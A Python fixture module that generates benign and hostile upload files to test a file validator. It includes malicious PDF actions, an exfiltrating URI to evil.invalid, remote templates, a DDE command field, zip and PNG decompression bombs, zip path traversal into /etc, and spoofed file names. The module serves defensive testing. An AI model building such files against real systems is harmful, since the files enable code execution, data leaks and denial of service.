"""Files as people hand them in, and as nobody should: the good ones, and the forty bad ones of R15."""

import io
import stat
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache
from typing import Final

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

EICAR: Final = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SECRET: Final = "Secret-Camera-7"
TYPES: Final = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{more}</Types>'
RELS: Final = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{more}</Relationships>'
)
BODY: Final = '<w:document xmlns:w="urn:w"><w:body><w:p><w:r>{more}</w:r></w:p></w:body></w:document>'
LINKED: Final = '<Relationship Id="r1" Type="urn:x/{kind}" TargetMode="External" Target="{target}"/>'
ODT_TYPE: Final = b"application/vnd.oasis.opendocument.text"
ODT_BODY: Final = (
    '<office:document-content xmlns:office="urn:o" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:d">'
    "<office:body>{more}</office:body></office:document-content>"
)


@dataclass(frozen=True)
class Sent:
    """A file as it is sent, and the word code of its refusal."""

    name: str
    raw: bytes
    code: str
    declared: str = ""


def picture(form: str = "PNG", size: tuple[int, int] = (40, 30), mode: str = "RGB") -> bytes:
    """A small picture with a camera in its metadata."""
    made, drawn = io.BytesIO(), Image.linear_gradient("L").resize(size).convert(mode)
    notes = drawn.getexif()
    notes[271] = SECRET
    drawn.save(made, form, exif=notes)
    return made.getvalue()


def packed(parts: dict[str, bytes | str]) -> bytes:
    """A zip with these parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return made.getvalue()


def docx(more: dict[str, bytes | str] | None = None, *, types: str = "", rels: str = "", body: str = "Hi") -> bytes:
    """A Word document, as small as can be."""
    return packed(
        {
            "[Content_Types].xml": TYPES.format(more=types),
            "_rels/.rels": RELS.format(more=""),
            "word/document.xml": BODY.format(more=body),
            "word/_rels/document.xml.rels": RELS.format(more=rels),
            "docProps/core.xml": f"<a>{SECRET}</a>",
            **(more or {}),
        }
    )


def odt(body: str = "Hi", *, manifest: str = "") -> bytes:
    """An OpenDocument text, as small as can be."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(zipfile.ZipInfo("mimetype"), ODT_TYPE)
        package.writestr("content.xml", ODT_BODY.format(more=body))
        package.writestr("meta.xml", f"<a>{SECRET}</a>")
        package.writestr("META-INF/manifest.xml", f"<manifest>{manifest}</manifest>")
    return made.getvalue()


def pdf(*, acting: bool = False, password: str = "") -> bytes:
    """A PDF of one page; `acting` gives it scripts, actions, an attachment, and metadata."""
    made = io.BytesIO()
    with pikepdf.new() as document:
        page = document.add_blank_page(page_size=(200, 200))
        if acting:
            act(document, page)
        if password:
            document.save(made, encryption=pikepdf.Encryption(owner=password, user=password))
        else:
            document.save(made)
    return made.getvalue()


def act(document: pikepdf.Pdf, page: pikepdf.Page) -> None:
    """Put everything into a PDF that may not stay there."""
    script = Dictionary(S=Name.JavaScript, JS=f"app.alert('{SECRET}')")
    document.Root.OpenAction = script
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", script])))
    document.Root.AA = Dictionary(WC=script)
    document.attachments["evil.exe"] = b"MZ" + SECRET.encode()
    document.docinfo["/Author"] = SECRET
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = [SECRET]
    launch = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9])
    launch.A = Dictionary(S=Name.Launch, F=SECRET, Next=Dictionary(S=Name.URI, URI=f"http://evil.invalid/{SECRET}"))
    page.obj.Annots = Array([launch])
    page.obj.AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F=SECRET))


def big_png(side: int = 30_000) -> bytes:
    """A picture of a few hundred kB that unfolds to nearly a thousand million pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(1 + side // 8 + 1) * side, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def crossed(name: str, mode: int = 0) -> bytes:
    """A Word document with one more part of this name and these rights."""
    made = io.BytesIO(docx())
    with zipfile.ZipFile(made, "a") as package:
        part = zipfile.ZipInfo(name)
        part.external_attr = mode << 16
        package.writestr(part, b"/etc/passwd")
    return made.getvalue()


def locked_zip() -> bytes:
    """A Word document whose parts say that they are encrypted."""
    raw = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := raw.find(mark, at + 1)) >= 0:
            raw[at + place] |= 1
    return bytes(raw)


def lying_zip() -> bytes:
    """A Word document with a part that unfolds to 100 MB, and whose header says that it has ten bytes."""
    raw = bytearray(docx({"word/media/image1.png": bytes(100 * 1024**2)}))
    at = raw.find(b"PK\x01\x02" + raw[raw.rfind(b"PK\x01\x02") + 4 : raw.rfind(b"PK\x01\x02") + 6])
    while at >= 0:
        if b"image1.png" in raw[at : at + 90]:
            raw[at + 24 : at + 28] = struct.pack("<I", 10)
        at = raw.find(b"PK\x01\x02", at + 1)
    return bytes(raw)


@cache
def bad_files() -> tuple[Sent, ...]:
    """The bad files of R15; names with NUL and line ends among them."""
    noise = Image.effect_noise((600, 400), 80).convert("RGB")
    jpeg = io.BytesIO()
    noise.save(jpeg, "JPEG")
    return (*bad_kinds(jpeg.getvalue()), *bad_packages(), *bad_names())


def bad_kinds(jpeg: bytes) -> tuple[Sent, ...]:
    """What is not what it says, is cut, empty or too large."""
    good = pdf()
    return (
        Sent("report.pdf", picture(), "file.not_what_it_says"),
        Sent("report.pdf", b"<html><script>alert(1)</script></html>", "file.not_what_it_says"),
        Sent("report.pdf", b"/*%PDF-1.7*/alert(1)//\n" + good, "file.not_what_it_says"),
        Sent("picture.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>', "file.kind"),
        Sent("picture.png", b'<svg xmlns="http://www.w3.org/2000/svg"/>', "file.not_what_it_says"),
        Sent("setup.exe", b"MZ" + bytes(400), "file.kind"),
        Sent("report.pdf", b"MZ" + bytes(400), "file.not_what_it_says"),
        Sent("report.docx", b"MZ" + bytes(400), "file.not_what_it_says"),
        Sent("photo.jpg", picture("PNG"), "file.not_what_it_says"),
        Sent("photo.png", picture("GIF"), "file.not_what_it_says"),
        Sent("photo.jpg", jpeg[: len(jpeg) // 2], "file.broken"),
        Sent("photo.png", picture()[:-30], "file.broken"),
        Sent("photo.png", big_png(), "file.picture_big"),
        Sent("report.pdf", b"", "file.empty"),
        Sent("notes.txt", b" \r\n\t", "file.empty"),
        Sent("notes.txt", b"a" * (21 * 1024**2), "file.big"),
        Sent("notes.txt", b"MZ\x90\x00\x03\x00", "file.not_text"),
        Sent("notes.txt", b"<!DOCTYPE html><script>alert(1)</script>", "file.not_text"),
        Sent("report.pdf", good[: len(good) // 3], "file.broken"),
        Sent("report.pdf", b"%PDF-1.7\n%%EOF", "file.broken"),
        Sent("report.pdf", pdf(password="geheim"), "file.password"),
        Sent("report.pdf", good, "file.not_what_it_says", "image/png"),
        Sent("photo.png", picture(), "file.not_what_it_says", "text/html"),
        Sent("notes.txt", EICAR, "file.virus"),
        Sent("report.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "file.old_or_locked"),
    )


def bad_packages() -> tuple[Sent, ...]:
    """Office files that act, reach out, or unfold too big."""
    noise = Image.effect_noise((2500, 2000), 90).tobytes()
    outside = LINKED.format(kind="attachedTemplate", target="https://evil.invalid/t.dotm")
    fetched = LINKED.format(kind="image", target="https://evil.invalid/i.png")
    macro = '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    field = "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText>"
    entity = '<!DOCTYPE a [<!ENTITY b "cc">]><a>&b;</a>'
    far = '<draw:image xlink:href="https://evil.invalid/i.png"/>'
    return (
        Sent("report.docm", docx(), "file.kind"),
        Sent("report.docx", docx({"word/vbaProject.bin": b"x"}), "file.acts"),
        Sent("report.docx", docx(types=macro), "file.acts"),
        Sent("report.docx", docx(rels=outside), "file.acts"),
        Sent("report.docx", docx(rels=fetched), "file.reaches_out"),
        Sent("report.docx", docx(body=field), "file.reaches_out"),
        Sent("report.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), "file.acts"),
        Sent("report.docx", docx({"word/embeddings/tool.exe": b"MZ"}), "file.acts"),
        Sent("report.docx", docx({"word/styles.xml": entity}), "file.acts"),
        Sent("report.docx", locked_zip(), "file.password"),
        Sent(
            "report.docx",
            docx({f"word/media/i{n}.png": noise + bytes(17 * 1024**2) for n in range(4)}),
            "file.unpacks_big",
        ),
        Sent("report.docx", docx({"word/media/image1.png": bytes(200 * 1024**2)}), "file.unpacks_big"),
        Sent("report.docx", lying_zip(), "file.broken"),
        Sent("report.docx", crossed("../evil.xml"), "file.unsafe_part"),
        Sent("report.docx", crossed("word/link.xml", stat.S_IFLNK | 0o777), "file.unsafe_part"),
        Sent("report.docx", crossed("/etc/cron.xml"), "file.unsafe_part"),
        Sent("report.xlsx", docx(), "file.not_what_it_says"),
        Sent("archive.zip", packed({"a.txt": "a"}), "file.kind"),
        Sent("report.odt", packed({"a.txt": "a"}), "file.not_what_it_says"),
        Sent("report.odt", odt("<script:event-listener/>"), "file.acts"),
        Sent("report.odt", odt(far), "file.reaches_out"),
        Sent("report.odt", odt(manifest="<encryption-data/>"), "file.password"),
    )


def bad_names() -> tuple[Sent, ...]:
    """Good content under names that do harm somewhere."""
    good, names = pdf(), ("../../evil.pdf", "C:\\evil.pdf", "a\x00.pdf", "a\nb.pdf", "CON.pdf", "nul.txt.pdf", ".pdf")
    return (
        *(Sent(name, good, "file.name") for name in names),
        Sent("a\u202egpj.pdf", good, "file.name"),
        Sent("a" * 296 + ".pdf", good, "file.name_long"),
        Sent("report.pdf.exe", good, "file.kind"),
        Sent("report.exe.pdf", good, "file.name_double"),
        Sent("report", good, "file.kind"),
    )


def good_files() -> tuple[tuple[str, bytes], ...]:
    """One of every kind, with traces in it that may not stay."""
    links = LINKED.format(kind="hyperlink", target="https://www.s-bb.nl/")
    return (
        ("report.pdf", pdf(acting=True)),
        ("photo.png", picture(mode="RGBA")),
        ("photo.jpg", picture("JPEG")),
        ("Foto's van 't werk – één.JPEG", picture("JPEG", (4500, 3000), "CMYK")),
        ("report v1.2.docx", docx(rels=links) + b"<script>trailing</script>"),
        ("book.xlsx", packed({"[Content_Types].xml": TYPES.format(more=""), "xl/workbook.xml": "<w/>"})),
        ("talk.pptx", packed({"[Content_Types].xml": TYPES.format(more=""), "ppt/presentation.xml": "<p/>"})),
        ("report.odt", odt('<text:a xmlns:text="t" xlink:href="https://www.s-bb.nl/">SBB</text:a>')),
        ("notes.txt", "Eén regel\r\nen nog één".encode("cp1252")),
    )
